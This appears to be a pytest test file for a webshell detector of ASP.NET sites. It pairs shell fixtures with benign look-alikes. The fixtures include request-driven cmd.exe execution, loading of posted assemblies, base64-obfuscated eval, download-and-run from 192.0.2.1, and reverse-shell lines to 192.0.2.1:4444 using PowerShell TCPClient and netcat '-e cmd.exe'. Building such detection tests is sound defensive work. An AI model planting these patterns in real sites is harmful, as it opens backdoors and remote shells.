"""Behaviour engine, session 9 (issue 14, A2): request input traced across files ASP.NET compiles
together. A page hands request input to a method of an ``App_Code`` class, of its code-behind or of an
``#include``'d file, and the dangerous operation is inside that method: alone, the page has no sink
and the class no source. Ordinary shapes stay silent: a helper whose callers pass constants or
configuration, an ``App_Code`` class with a sink and no caller passing request input, a page and a
class that merely use the same variable names.

The files were written for these tests, name only ``example`` hosts, are never compiled or run and
are not copies of real shells. Each tree is scanned once through ``extriage scan``.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from extriage.detections.webfiles import behaviour

from .rule_tables import findings_for, scan_tree

ROOT = "C/inetpub/wwwroot/"

TOOLS_CS = """using System.Diagnostics;
namespace Example.Site {
    public class Tools {
        public void Run(string c) {
            var p = new ProcessStartInfo("cmd.exe", "/c " + c);
            p.UseShellExecute = false;
            Process.Start(p);
        }
    }
}
"""
TOOLS_VB = """Imports System.IO
Public Class Store
    Public Shared Sub Keep(ByVal where As String, ByVal body As String)
        File.WriteAllText(where, body)
    End Sub
End Class
"""
PAGE = (
    '<%@ Page Language="C#" %>\n<html><body><form runat="server">'
    '<asp:Label id="Status" runat="server" /></form>\n'
    '<% Status.Text = "ready"; var t = new Example.Site.Tools(); t.Run({arg}); %>\n</body></html>\n'
)


def _across(page: str, page_ext: str, cls: str, cls_ext: str) -> list[dict[str, Any]]:
    return behaviour.analyse_across(page.encode(), page_ext, cls.encode(), cls_ext).hits


def test_request_input_handed_to_an_app_code_method_reaches_its_process_start() -> None:
    page = PAGE.replace("{arg}", 'Request["c"]')
    assert behaviour.analyse(page.encode(), ".aspx").hits == []  # no sink in the page
    assert behaviour.analyse(TOOLS_CS.encode(), ".cs").hits == []  # no source in the class
    assert behaviour.analyse(TOOLS_CS.encode(), ".cs").methods == ["Run"]
    hits = _across(page, ".aspx", TOOLS_CS, ".cs")
    assert [(h["sink"], h["file"], h["line"], h["source_line"], h["call_line"]) for h in hits] == [
        ("process", "callee", 5, 3, 3)
    ]
    assert hits[0]["raw"].startswith("var p = new ProcessStartInfo")


@pytest.mark.parametrize(
    "arg",
    [
        '"ipconfig /all"',  # a constant
        'ConfigurationManager.AppSettings["report"]',  # configuration
        "Status.ID",  # a property of the page's own, not posted input
    ],
)
def test_a_helper_called_with_constants_or_configuration_is_not_flagged(arg: str) -> None:
    assert _across(PAGE.replace("{arg}", arg), ".aspx", TOOLS_CS, ".cs") == []


def test_a_shared_variable_name_is_not_a_call() -> None:
    # the page reads c from the request and shows it; it calls the class with a constant: the class's
    # parameter c is not the page's c
    page = PAGE.replace("{arg}", '"ver"').replace(
        '<% Status.Text = "ready";', '<% string c = Request["c"]; Status.Text = c;'
    )
    assert _across(page, ".aspx", TOOLS_CS, ".cs") == []


def test_vb_page_and_vb_class() -> None:
    page = (
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Page_Load(sender As Object, e As EventArgs)\n"
        '    Store.Keep(Request.Form("p"), Request.Form("t"))\nEnd Sub\n</script>\n'
    )
    hits = _across(page, ".aspx", TOOLS_VB, ".vb")
    assert ("file-write", 4, 4, "VB") in [
        (h["sink"], h["line"], h["source_line"], h["language"]) for h in hits
    ]
    fixed = page.replace('Request.Form("p")', 'Server.MapPath("~/App_Data/notes.txt")')
    assert _across(fixed, ".aspx", TOOLS_VB, ".vb") == []  # request content in a fixed file: a notes page


def test_languages_that_do_not_compile_together_are_not_traced() -> None:
    page = PAGE.replace("{arg}", 'Request["c"]')
    assert _across(page, ".aspx", TOOLS_VB, ".vb") == []


SHELL_CS = """namespace Example.Ops {
    public class Job {
        public string Command { get; set; }
        public string Folder;
        public string Go() {
            var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Command);
            psi.WorkingDirectory = Folder;
            return System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd();
        }
    }
}
"""


def test_a_member_the_page_sets_carries_request_input_into_the_class() -> None:
    page = (
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        '    var j = new Example.Ops.Job();\n    j.Folder = "C:\\\\Temp";\n    j.Command = Request.Form["c"];\n'
        "    Response.Write(j.Go());\n}\n</script>\n"
    )
    hits = _across(page, ".aspx", SHELL_CS, ".cs")
    assert [(h["sink"], h["line"], h["source_line"]) for h in hits] == [("process", 6, 6)]
    assert _across(page.replace('Request.Form["c"]', '"ver"'), ".aspx", SHELL_CS, ".cs") == []
    initializer = (
        '<%@ Page Language="C#" %>\n<% var j = new Example.Ops.Job { Folder = "C:\\\\Temp",\n'
        '    Command = Request.Headers["X-Example"] };\n   Response.Write(j.Go()); %>\n'
    )
    assert [(h["sink"], h["source_line"]) for h in _across(initializer, ".aspx", SHELL_CS, ".cs")] == [
        ("process", 3)
    ]
    assert behaviour.analyse(SHELL_CS.encode(), ".cs").methods == ["Command", "Folder"]


#: (caller path, its text, callee path, its text, sink)
SHELLS: list[tuple[str, str, str, str, str]] = [
    ("app/run.aspx", PAGE.replace("{arg}", 'Request["c"]'), "app/App_Code/Tools.cs", TOOLS_CS, "process"),
    (
        "vbapp/save.ashx",
        '<%@ WebHandler Language="VB" Class="Saver" %>\nImports System.Web\n'
        "Public Class Saver : Implements IHttpHandler\n"
        "    Public Sub ProcessRequest(ByVal ctx As HttpContext) Implements IHttpHandler.ProcessRequest\n"
        '        Store.Keep(ctx.Request("p"), ctx.Request("t"))\n    End Sub\n'
        "    Public ReadOnly Property IsReusable As Boolean Implements IHttpHandler.IsReusable\n"
        "        Get\n            Return False\n        End Get\n    End Property\nEnd Class\n",
        "vbapp/App_Code/Store.vb",
        TOOLS_VB,
        "file-write",
    ),
    (
        # the caller is a code-behind file: it calls a loader class of App_Code with the posted body
        "site2/view.aspx.cs",
        "public partial class View : System.Web.UI.Page {\n"
        "    protected void Page_Load(object s, System.EventArgs e) {\n"
        "        var b = new byte[Request.ContentLength];\n        Request.InputStream.Read(b, 0, b.Length);\n"
        "        Example.Cache.Warm(b);\n    }\n}\n",
        "site2/App_Code/Cache.cs",
        "namespace Example {\n  public static class Cache {\n    public static object Warm(byte[] data) {\n"
        '      return System.Reflection.Assembly.Load(data).CreateInstance("Example.Probe");\n    }\n  }\n}\n',
        "assembly-load",
    ),
    (
        # an #include'd file defines the method, the page calls it
        "site3/status.aspx",
        '<%@ Page Language="C#" %>\n<!-- #include file="parts/util.inc" -->\n'
        '<% Check(Request.QueryString["h"]); %>\n',
        "site3/parts/util.inc",
        '<script runat="server">\nvoid Check(string host) {\n'
        # (a ping.exe run with the host alone is a diagnostic page since session 10: cmd.exe splices it)
        '    System.Diagnostics.Process.Start("cmd.exe", "/c ping " + host);\n}\n</script>\n',
        "process",
    ),
]
#: ordinary applications: the same shapes where no request input reaches the operation
ORDINARY: list[tuple[str, str]] = [
    ("ok1/report.aspx", PAGE.replace("{arg}", '"ipconfig /all"')),
    ("ok1/App_Code/Tools.cs", TOOLS_CS),
    (
        "ok2/notes.aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Page_Load(sender As Object, e As EventArgs)\n"
        '    Store.Keep(Server.MapPath("~/App_Data/notes.txt"), Request.Form("t"))\nEnd Sub\n</script>\n',
    ),
    ("ok2/App_Code/Store.vb", TOOLS_VB),
    (
        "ok3/App_Code/Pdf.cs",
        "using System.Diagnostics;\npublic static class Pdf {\n"
        "  public static void Make(string html, string pdf) {\n"
        '    Process.Start("wkhtmltopdf.exe", "\\"" + html + "\\" \\"" + pdf + "\\"");\n  }\n}\n',
    ),
    (
        "ok3/invoice.aspx.cs",
        "public partial class Invoice : System.Web.UI.Page {\n"
        "  protected void Page_Load(object s, System.EventArgs e) {\n"
        '    string id = Request.QueryString["id"];\n    int n = int.Parse(id);\n'
        '    Pdf.Make(Server.MapPath("~/App_Data/inv.html"), Server.MapPath("~/App_Data/inv" + n + ".pdf"));\n'
        "  }\n}\n",
    ),
]


@pytest.fixture(scope="module")
def scanned(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    files = [(p, t) for a, at, b, bt, _s in SHELLS for p, t in ((a, at), (b, bt))] + ORDINARY
    return scan_tree(Path(tmp_path_factory.mktemp("engine9")), ROOT, files)


@pytest.mark.parametrize(("caller", "callee", "sink"), [(c, e, s) for c, _a, e, _b, s in SHELLS])
def test_split_shell_is_found_on_its_page_naming_both_files(
    scanned: dict[str, Any], caller: str, callee: str, sink: str
) -> None:
    found = [f for f in findings_for(scanned, caller) if f["rule_id"] == f"WF-BEHAV-{sink.upper()}"]
    assert found, [f["rule_id"] for f in findings_for(scanned, caller)]
    sources = {str(e["source"]).replace("\\", "/") for e in found[0]["evidence"]}
    assert any(s.endswith(caller) for s in sources) and any(s.endswith(callee) for s in sources)
    roles = {e["fields"].get("role") for e in found[0]["evidence"]}
    assert {"source", "sink"} <= roles


@pytest.mark.parametrize("path", [p for p, _t in ORDINARY])
def test_ordinary_application_is_not_flagged(scanned: dict[str, Any], path: str) -> None:
    assert findings_for(scanned, path) == []


# --- run-time registration and self-deletion (x11_to_a1.md request 2) ------------------------------

ROUTE_PAGE = """<%@ Page Language="C#" %>
<%@ Import Namespace="System.Web.Routing" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
    RouteTable.Routes.Add("example", new Route("__example", new ExampleRouteHandler()));
    Response.Write("ok");
}
class ExampleRouteHandler : IRouteHandler {
    public IHttpHandler GetHttpHandler(RequestContext ctx) { return new ExampleHandler(); }
}
class ExampleHandler : IHttpHandler {
    public bool IsReusable { get { return true; } }
    public void ProcessRequest(HttpContext c) { c.Response.Write("hello"); }
}
</script>
"""
MODULE_PAGE = """<%@ Page Language="C#" %>
<script runat="server">
void Page_Load(object sender, EventArgs e) {
    System.Web.HttpApplication.RegisterModule(typeof(ExampleModule));
}
public class ExampleModule : IHttpModule {
    public void Init(HttpApplication app) { }
    public void Dispose() { }
}
</script>
"""
SELF_DELETE = [
    # (extension, code)
    (
        ".aspx",
        '<%@ Page Language="C#" %>\n<% Response.Write("done"); System.IO.File.Delete(Request.PhysicalPath); %>\n',
    ),
    (
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\nSub Page_Load(s As Object, e As EventArgs)\n'
        "    IO.File.Delete(Server.MapPath(Request.FilePath))\nEnd Sub\n</script>\n",
    ),
    (
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Once" %>\nusing System; using System.IO; using System.Web;\n'
        "public class Once : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
        "  public void ProcessRequest(HttpContext context) {\n    Uri url = context.Request.Url;\n"
        '    context.Response.Write("ok");\n'
        "    File.Delete(context.Request.PhysicalApplicationPath + url.LocalPath);\n  }\n}\n",
    ),
    (
        ".aspx",
        '<%@ Page Language="C#" %>\n<% string me = Request.PhysicalPath; new System.IO.FileInfo(me).Delete(); %>\n',
    ),
]
NOT_SELF_DELETE = [
    # a maintenance page deletes a different file (the export it just sent)
    '<%@ Page Language="C#" %>\n<% string f = Server.MapPath("~/App_Data/export.csv");\n'
    "   Response.TransmitFile(f); Response.Flush(); System.IO.File.Delete(f); %>\n",
    # a temp file next to the page
    '<%@ Page Language="C#" %>\n<% string dir = System.IO.Path.GetDirectoryName(Request.PhysicalPath);\n'
    '   System.IO.File.Delete(System.IO.Path.Combine(dir, "preview.tmp")); %>\n',
    # the page's own path only read (its age shown)
    '<%@ Page Language="C#" %>\n<% Response.Write(System.IO.File.GetLastWriteTime(Request.PhysicalPath)); %>\n',
]


def _sinks(text: str, ext: str) -> set[str]:
    return {h["sink"] for h in behaviour.analyse(text.encode(), ext).hits}


@pytest.mark.parametrize("page", [ROUTE_PAGE, MODULE_PAGE])
def test_a_page_that_registers_a_route_or_module_at_run_time_is_found(page: str) -> None:
    assert "runtime-registration" in _sinks(page, ".aspx")
    assert "runtime-registration" in _sinks(page.replace("Page Language", "Control Language"), ".ascx")


def test_start_up_registration_is_not_a_finding() -> None:
    global_asax = (
        '<%@ Application Language="C#" %>\n<%@ Import Namespace="System.Web.Routing" %>\n'
        '<script runat="server">\nvoid Application_Start(object sender, EventArgs e) {\n'
        '    RouteTable.Routes.MapPageRoute("product", "products/{id}", "~/Product.aspx");\n'
        '    RouteTable.Routes.Add("api", new Route("api/{x}", new ApiRouteHandler()));\n}\n</script>\n'
    )
    assert _sinks(global_asax, ".asax") == set()
    app_start = (
        'using System.Web.Routing;\n[assembly: System.Web.PreApplicationStartMethod(typeof(Example.Boot), "Start")]\n'
        "namespace Example {\n  public static class Boot {\n    public static void Start() {\n"
        "      System.Web.HttpApplication.RegisterModule(typeof(TimingModule));\n"
        '      RouteTable.Routes.MapPageRoute("home", "", "~/Default.aspx");\n    }\n  }\n}\n'
    )
    assert _sinks(app_start, ".cs") == set()  # App_Code / App_Start: set-up code
    reading = '<%@ Page Language="C#" %>\n<% Link.NavigateUrl = RouteTable.Routes.GetVirtualPath(null, "product", null).VirtualPath; %>\n'
    assert _sinks(reading, ".aspx") == set()


@pytest.mark.parametrize(("ext", "page"), SELF_DELETE)
def test_a_page_that_deletes_itself_is_found(ext: str, page: str) -> None:
    assert "self-delete" in _sinks(page, ext)


@pytest.mark.parametrize("page", NOT_SELF_DELETE)
def test_deleting_another_file_is_not_self_deletion(page: str) -> None:
    assert _sinks(page, ".aspx") == set()


def test_tracing_across_files_is_bounded_and_says_so(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from extriage.scan.stages import webfiles as stage

    monkeypatch.setattr(stage, "_ACROSS_PAIRS", 1)
    page = PAGE.replace("{arg}", 'Request["c"]')
    files = [("app/a.aspx", page), ("app/b.aspx", page), ("app/App_Code/Tools.cs", TOOLS_CS)]
    data = scan_tree(tmp_path, ROOT, files)
    flagged = [p for p in ("app/a.aspx", "app/b.aspx") if findings_for(data, p)]
    assert len(flagged) == 1
    assert any("traced across files for the first 1" in w for w in data["coverage"]["warnings"])


# --- requests of this session (x12_to_a2.md, x13_to_a2.md) -------------------------------------------

_B64_CMD = "dmFyIHNhZmU9InVuc2FmZSI7ZXZhbChSZXF1ZXN0Lkl0ZW1bImsiXSwgc2FmZSk7"  # var safe="unsafe";eval(Request.Item["k"], safe);


@pytest.mark.parametrize(
    "page",
    [
        # base64 of the code split in pieces, with char() arithmetic in decimal, octal and hex, inside
        # GetEncoding(936).GetString (X12 1: the shape of a page captured on Exchange)
        '<%@ Page Language="Jscript" %>\n<%eval(System.Text.Encoding.GetEncoding(936).GetString('
        "System.Convert.FromBase64String('dmFyIHNh'+'ZmU9InVu'+char(0x18c/4)+'2FmZSI7ZXZhbChSZXF1ZXN0Lkl0ZW1bImsiXSwgc2FmZSk7')));%>",
        '<%@ Page Language="Jscript" %>\n<%eval(System.Text.Encoding.UTF8.GetString('
        f'System.Convert.FromBase64String("{_B64_CMD[:20]}" + "{_B64_CMD[20:]}")));%>',
    ],
)
def test_eval_of_code_decoded_from_a_literal_is_read_as_that_code(page: str) -> None:
    hits = behaviour.analyse(page.encode(), ".aspx").hits
    sinks = {h["sink"] for h in hits}
    assert {"eval-decoded", "eval"} <= sinks, sinks
    assert next(h for h in hits if h["sink"] == "eval")["source"] == "request value"


def test_decoded_text_that_is_shown_or_evaluated_apart_is_not_eval_decoded() -> None:
    for page in (
        '<%@ Page Language="JScript" %>\n<% Response.Write(System.Text.Encoding.UTF8.GetString('
        'System.Convert.FromBase64String("SGVsbG8gd29ybGQ="))); %>',
        '<%@ Page Language="JScript" %>\n<% var n = eval("2+3"); Response.Write(char(0101) + n); %>',
        '<%@ Page Language="JScript" %>\n<% var n = eval("Math.max(1, 2)"); %>',  # nothing decoded
    ):
        assert behaviour.analyse(page.encode(), ".aspx").hits == []


def test_eval_option_after_a_call() -> None:
    page = (
        '<%@ Page Language="JScript" %>\n<% var b="unsa", c="fe", d=b+c;\n'
        'function fun() { return Request.Item["k"]; }\neval(fun(), d); %>'
    )
    assert "eval-unsafe" in {h["sink"] for h in behaviour.analyse(page.encode(), ".aspx").hits}


def _x13(name: str) -> list[tuple[str, str, str]]:
    """A table of X13's reproductions (tests/webfiles/test_unseen13_intl.py), meant for engine tests."""
    from . import test_unseen13_intl as x13

    rows: list[tuple[str, str, str]] = getattr(x13, name)
    return rows


@pytest.mark.parametrize(
    ("table", "expected"),
    [
        ("COM_HIDDEN", "shell-object"),  # by CLSID moniker, unescape'd, char-coded or reversed ProgID
        ("COM_DOWNLOAD", "com-http"),  # XMLHTTP / WinHttp open(verb, request address)
    ],
)
def test_com_shapes_of_the_eleventh_collection_are_found(table: str, expected: str) -> None:
    for name, ext, page in _x13(table):
        assert expected in _sinks(page, ext), name


@pytest.mark.parametrize("table", ["COM_ORDINARY", "DOWNLOAD_ORDINARY"])
def test_com_objects_used_for_ordinary_things_are_not_flagged(table: str) -> None:
    for name, ext, page in _x13(table):
        assert _sinks(page, ext) == set(), name


def test_com_download_into_a_request_named_file() -> None:
    name, ext, page = _x13("COM_DOWNLOAD")[0]
    assert {"com-http", "com-file-write"} <= _sinks(page, ext), name


def test_a_page_held_in_a_literal_and_written_as_a_page_is_a_dropper() -> None:
    for name, ext, page in _x13("DROPPERS"):
        assert "page-dropper" in _sinks(page, ext), name
    for name, ext, page in _x13("DROPPER_ORDINARY"):
        assert _sinks(page, ext) == set(), name
    # the page's text written to a text file, not a page: not this sink
    name, ext, page = _x13("DROPPERS")[0]
    assert "page-dropper" not in _sinks(page.replace("view.aspx", "view.txt"), ext)


def test_every_language_has_its_page_screen() -> None:
    # RE2 refuses what Python accepts (a repetition over 1,000): the screen of every sink would then be
    # missing and every page searched for every sink (slow, silently)
    assert all(a is not None for a in behaviour.knowledge().prefilter.values())


def test_identifiers_as_long_escapes_with_format_characters_and_split_base64_names() -> None:
    # x13_to_a2.md 4: \U escapes (8 digits) and escaped format characters inside names, a member name as
    # base64 split by a separator removed with Replace (GodzillaSuper's obfuscator; harmless reproduction)
    page = (
        '/*a*/<%@  Language="C#" Class="H" %>\n'
        "public class H : System.Web.IHttpHandler {\n"
        "  public void ProcessRequest(System.Web.HttpContext c) {\n"
        "    byte[] d = c.\\u0052\\U0000200eequest.BinaryRead(c.Request.TotalBytes);\n"
        "    object a = typeof(System.Reflection.\\u0041\\U0000180B\\u0073\\ufeffsembly).GetMethod("
        'System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("T%G%9%h%Z%A%=%=".Replace("%", "")))'
        ", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { d });\n"
        "  }\n  public bool IsReusable { get { return false; } }\n}\n"
    )
    assert {"reflection-load", "reflection-invoke"} <= _sinks(page, ".ashx")
    for name, ext, text in _x13("OBFUSCATED_ORDINARY"):
        assert _sinks(text, ext) == set(), name


# launchers and droppers with no request input of their own (X13's second batch, X12 2)
DROPS: list[tuple[str, str, str, str]] = [
    (
        "page-write",
        ".aspx",
        '<%@ Page Language="C#" %>\n<% System.IO.File.WriteAllText(Server.MapPath("notes.aspx"), Request["t"]); %>\n',
        '<%@ Page Language="C#" %>\n<% System.IO.File.WriteAllText(Server.MapPath("~/App_Data/notes.txt"), Request["t"]);\n'
        '   System.IO.File.WriteAllText(Server.MapPath("~/web.config"), ConfigBox.Text); %>\n',
    ),
    (
        "download-exec",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="H" %>\npublic class H : System.Web.IHttpHandler {\n'
        "  public void ProcessRequest(System.Web.HttpContext c) {\n"
        '    string p = System.IO.Path.Combine(System.IO.Path.GetTempPath(), "example.exe");\n'
        '    new System.Net.WebClient().DownloadFile("http://192.0.2.1/example.bin", p);\n'
        "    var psi = new System.Diagnostics.ProcessStartInfo(); psi.FileName = p; System.Diagnostics.Process.Start(psi);\n"
        "  }\n  public bool IsReusable { get { return false; } }\n}\n",
        '<%@ WebHandler Language="C#" Class="H" %>\npublic class H : System.Web.IHttpHandler {\n'
        "  public void ProcessRequest(System.Web.HttpContext c) {\n"
        '    string p = c.Server.MapPath("~/App_Data/rates.zip");\n'
        '    new System.Net.WebClient().DownloadFile("https://rates.example.org/today.zip", p);\n'
        '    System.Diagnostics.Process.Start("unzip.exe", p);\n'
        "  }\n  public bool IsReusable { get { return false; } }\n}\n",
    ),
    (
        "remote-assembly",
        ".aspx",
        '<%@ Page Language="C#" %>\n<% byte[] b = new System.Net.WebClient().DownloadData("http://192.0.2.1/x.bin");\n'
        "   System.Reflection.Assembly.Load(b).EntryPoint.Invoke(null, null); %>\n",
        '<%@ Page Language="C#" %>\n<% byte[] img = new System.Net.WebClient().DownloadData("https://cdn.example.org/logo.png");\n'
        '   byte[] dll = System.IO.File.ReadAllBytes(Server.MapPath("~/bin/Example.Plugins.dll"));\n'
        "   var a = System.Reflection.Assembly.Load(dll); Response.BinaryWrite(img); %>\n",
    ),
    (
        "powershell-payload",
        ".aspx",
        '<%@ Page Language="C#" %>\n<% var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe";\n'
        '   p.StartInfo.Arguments = "/c powershell -NoP -Command \\"$c=New-Object Net.Sockets.TCPClient(\'192.0.2.1\',4444)\\"";\n'
        "   p.Start(); %>\n",
        '<%@ Page Language="C#" %>\n<% Help.Text = "To test, run: powershell -Command iex (New-Object Net.WebClient).DownloadString(url)";\n'
        '   System.Diagnostics.Process.Start("powershell.exe", "-File " + Server.MapPath("~/App_Data/report.ps1")); %>\n',
    ),
]


@pytest.mark.parametrize(("sink", "ext", "shell", "ordinary"), DROPS)
def test_droppers_and_launchers_without_request_input(sink: str, ext: str, shell: str, ordinary: str) -> None:
    assert sink in _sinks(shell, ext)
    assert _sinks(ordinary, ext) == set()


def test_an_application_updating_itself_from_its_own_folder_is_not_a_dropper() -> None:
    # the shape of a real admin page (a self-updater downloaded into the application's folder and run)
    page = (
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Update(object s, EventArgs e) {\n'
        '  string path = Server.MapPath("~/Update/ExampleUpdater.exe");\n'
        '  new System.Net.WebClient().DownloadFile("https://updates.example.org/ExampleUpdater.exe", path);\n'
        '  System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo(path, "run"));\n}\n</script>\n'
    )
    assert _sinks(page, ".aspx") == set()


# real benign pages of B1's set (/tmp/benign12) the engine misread: their shapes, and the shells beside them
@pytest.mark.parametrize(
    ("ordinary", "shell", "sink"),
    [
        (  # ADO.NET's CommandType.Text is an enumeration member, not a TextBox (a parameterised query)
            'SqlCommand cmd = new SqlCommand("select * from t where id=@p", con); cmd.CommandType = CommandType.Text;\n'
            '  cmd.Parameters.AddWithValue("@p", Request.QueryString["b"]); var da = new SqlDataAdapter(cmd);',
            "var da = new SqlDataAdapter(QueryBox.Text, con);",
            "sql-text",
        ),
        (  # a writer over the outbound request's stream posts a body, it writes no file
            'var r = System.Net.WebRequest.Create("https://api.example.org/x"); r.Method = "POST";\n'
            '  using (var w = new System.IO.StreamWriter(r.GetRequestStream())) { w.Write(Request.Form["d"]); }',
            'using (var w = new System.IO.StreamWriter(Request.Form["p"])) { w.Write("x"); }',
            "file-write",
        ),
        (  # an address parsed for its path is no outbound request
            'Label1.Text = new Uri(Request.QueryString["u"]).AbsolutePath;',
            'var r = System.Net.WebRequest.Create(new Uri(Request.QueryString["u"])); r.GetResponse();',
            "http-out",
        ),
    ],
)
def test_benign_shapes_of_b1s_set_and_their_shells(ordinary: str, shell: str, sink: str) -> None:
    page = '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n  {}\n}\n</script>\n'
    assert _sinks(page.replace("{}", ordinary), ".aspx") == set()
    assert sink in _sinks(page.replace("{}", shell), ".aspx")


def test_hidden_launchers_of_x11_request_1() -> None:
    from . import test_unseen11_code as x11

    for name, ext, page in x11.LAUNCHERS:
        assert "hidden-launcher" in _sinks(page, ext), name
    for name, ext, page in x11.ORDINARY:
        assert _sinks(page, ext) == set(), name
    probe = (  # X11's C# probe: a program under the site started hidden, errors swallowed
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        '  try { var i = new System.Diagnostics.ProcessStartInfo(Server.MapPath("~/images/example.exe"));\n'
        "    i.WindowStyle = System.Diagnostics.ProcessWindowStyle.Hidden; System.Diagnostics.Process.Start(i);\n"
        "  } catch { }\n  Response.Clear(); Response.End();\n}\n</script>\n"
    )
    assert "hidden-launcher" in _sinks(probe, ".aspx")
    # the same tool started hidden and waited for (its exit code used): a tool page
    assert _sinks(probe.replace("Process.Start(i);", "Process.Start(i).WaitForExit();"), ".aspx") == set()


def test_an_upload_saved_beside_the_page_through_a_joined_path() -> None:
    page = (
        '<%@ Page Language="C#" %>\n<form runat="server"><asp:FileUpload id="Up" runat="server" /></form>\n'
        '<script runat="server">\nvoid Go(object s, EventArgs e) {\n  if (Up.HasFile) {\n'
        '    string n = System.IO.Path.GetFileName(Up.FileName);\n    Up.SaveAs("./" + n);\n  }\n}\n</script>\n'
    )
    assert "upload-to-app-root" in _sinks(page, ".aspx")
    kept = page.replace(
        'Up.SaveAs("./" + n);', 'Up.SaveAs(Server.MapPath("~/uploads/") + System.Guid.NewGuid() + ".jpg");'
    )
    assert _sinks(kept, ".aspx") == set()


@pytest.mark.parametrize(
    ("code", "found"),
    [
        ('System.Diagnostics.Process.Start("nc.exe", "192.0.2.1 4444 -e cmd.exe");', True),
        ('var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe";\n'
         '  p.StartInfo.Arguments = "/C " + tool + " 192.0.2.1 4444 -e cmd"; p.Start();', True),
        ('System.Diagnostics.Process.Start("netstat.exe", "-e"); Label1.Text = "use -e cmd to ...";', False),
        ('System.Diagnostics.Process.Start("tool.exe", "-e cmdlets");', False),
    ],
)  # fmt: skip
def test_netcat_execute_switch_in_a_started_process(code: str, found: bool) -> None:
    page = (
        '<%@ Page Language="C#" %>\n<% string tool = Server.MapPath("~/App_Data/t.exe");\n  ' + code + " %>\n"
    )
    assert ("netcat-launcher" in _sinks(page, ".aspx")) is found


@pytest.mark.parametrize(
    ("ordinary", "shell", "sink"),
    [
        (  # a folder listed through a DirectoryInfo kept in a variable (B1 3)
            'var folder = new System.IO.DirectoryInfo(Server.MapPath(Request.QueryString["d"]));\n'
            "  foreach (var f in folder.GetFiles()) Files.Items.Add(f.Name);",
            'var folder = new System.IO.DirectoryInfo(Server.MapPath(Request.QueryString["d"]));\n'
            "  folder.Delete(true);",
            "file-write",
        ),
        (  # a file sent through a FileInfo (its read is another sink's business)
            'var fi = new System.IO.FileInfo(Server.MapPath("~/files/a.pdf")); Response.WriteFile(fi.FullName);',
            'new System.IO.FileInfo(Request.QueryString["f"]).Delete();',
            "file-write",
        ),
        (  # enumeration members named Text (B1 1)
            'var p = new SqlParameter("@n", SqlDbType.Text); p.Value = Request["n"];\n'
            '  var c = new SqlCommand("select 1 from t where n=@n", con); c.Parameters.Add(p);',
            "var c = new SqlCommand(SqlBox.Text, con);",
            "sql-text",
        ),
    ],
)
def test_b1_requests_ordinary_and_shell(ordinary: str, shell: str, sink: str) -> None:
    page = '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n  {}\n}\n</script>\n'
    # (the request-chosen folder listed through a DirectoryInfo is read as Directory.GetFiles is since session 17:
    # file-read, a listing - still no write)
    assert _sinks(page.replace("{}", ordinary), ".aspx") == ({"file-read"} if "GetFiles" in ordinary else set())
    assert sink in _sinks(page.replace("{}", shell), ".aspx")


def test_a_converter_run_on_an_upload_saved_under_a_configured_folder() -> None:
    # b1_to_a2.md 4 (a media site's App_Code helper): the upload saved as Path.Combine(configured folder,
    # client name) and a fixed converter run on it - no command from the client
    helper = (
        "using System.Diagnostics; using System.IO; using System.Web; using System.Web.UI.WebControls;\n"
        "public class Media {\n"
        "  static string Saved(FileUpload u) { return Path.Combine(HttpContext.Current.Server.MapPath(Settings.Folder),\n"
        "      Path.GetFileName(u.PostedFile.FileName)); }\n"
        "  public static void Convert(FileUpload u) {\n    u.PostedFile.SaveAs(Saved(u));\n"
        '    var p = new Process(); p.StartInfo.FileName = HttpContext.Current.Server.MapPath(Settings.Folder) + "\\\\conv.exe";\n'
        '    p.StartInfo.Arguments = "-i \\"" + Saved(u) + "\\" out.flv"; p.Start(); p.WaitForExit();\n  }\n}\n'
    )
    assert _sinks(helper, ".cs") == set()
    # a command typed by the client still runs a process; a path the client names whole is still a write
    assert "process" in _sinks(helper.replace('"-i \\"" + Saved(u) + "\\" out.flv"', "Args.Text"), ".cs")
    assert "file-write" in _sinks(
        helper.replace("u.PostedFile.SaveAs(Saved(u));", "u.PostedFile.SaveAs(PathBox.Text);"), ".cs"
    )


@pytest.mark.parametrize(
    ("guard", "kept"),
    [
        ('if (!Regex.IsMatch(pr, "^[0-9]{1,}$")) { Response.StatusCode = 400; return; }', False),
        ("int n; if (!int.TryParse(pr, out n)) return;", False),
        ("if (string.IsNullOrEmpty(pr)) { Response.StatusCode = 400; return; }", True),  # no guard
        ('if (!Regex.IsMatch(pr, "^[0-9a-z./ -]+$")) return;', True),  # letters, dots, spaces: text
        ('if (Regex.IsMatch(pr, "^[0-9]+$")) Log(pr);', True),  # not rejected
    ],
)
def test_a_value_checked_to_be_digits_only_is_a_number(guard: str, kept: bool) -> None:
    # b1_to_a2.md 5: a handler syncing a pull request by its number
    page = (
        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        '  string pr = Request.QueryString["pr"];\n  ' + guard + "\n"
        '  var psi = new System.Diagnostics.ProcessStartInfo(@"C:\\Tools\\git.exe", string.Format("checkout pr/{0}", pr));\n'
        "  System.Diagnostics.Process.Start(psi).WaitForExit();\n}\n</script>\n"
    )
    assert ("process" in _sinks(page, ".aspx")) is kept


